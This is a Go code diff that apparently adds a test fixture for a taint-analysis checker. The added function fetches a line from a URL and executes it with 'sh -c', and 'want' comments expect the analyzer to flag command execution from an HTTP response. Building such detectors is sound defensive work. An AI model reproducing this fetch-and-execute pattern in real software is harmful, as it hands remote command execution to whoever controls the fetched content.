@@ -4,6 +4,7 @@ package dispatch
 
 import (
 	"net/http"
+	"os/exec"
 
 	"github.com/gin-gonic/gin"
 
@@ -40,3 +41,12 @@ func keep(r store.Runner) error {
 }
 
 var _ = keep
+
+// fetchRun runs what a Fetcher returns: the untrusted result comes back
+// through the interface.
+func fetchRun(f store.Fetcher) error { // want `fetchRun: taint\(p0⇒command execution\)`
+	line, _ := f.Fetch("https://example.com/script")
+	return exec.Command("sh", "-c", line).Run() // want `command execution from .*HTTP response`
+}
+
+var _ = fetchRun
